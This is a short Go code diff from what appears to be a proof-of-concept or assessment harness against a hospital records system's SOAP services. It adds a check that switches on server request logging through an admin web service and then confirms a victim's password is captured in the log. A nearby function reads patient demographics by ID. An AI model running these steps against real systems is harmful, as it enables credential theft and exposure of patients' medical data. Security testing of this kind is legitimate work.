@@ -234,3 +234,18 @@ func soapRoam(ctx context.Context, t *Target) (Result, error) {
 	a, err := c.SOAP(ctx, "MAXIMSWebService", "getPatientById", "in0", t.PatientID)
 	return attempt(a, err, has(t.Surname), "the patient's demographics")
 }
+
+// logSwitch turns the log of requests on by SOAP; the next to sign in is in it.
+func logSwitch(ctx context.Context, t *Target) (Result, error) {
+	c, ok, err := soapUser(ctx, t, "RemoteSessionAdminWebService")
+	if !ok {
+		return Result{}, err
+	}
+	if _, err := c.SOAP(ctx, "RemoteSessionAdminWebService", "toggleLoggingWS"); err != nil {
+		return Result{}, err
+	}
+	if _, err := t.client().Login(ctx, t.Victim, t.Password, ""); err != nil {
+		return Result{}, err
+	}
+	return Result{strings.Contains(t.ServerLog(), t.Password), "the victim's password in the log"}, nil
+}
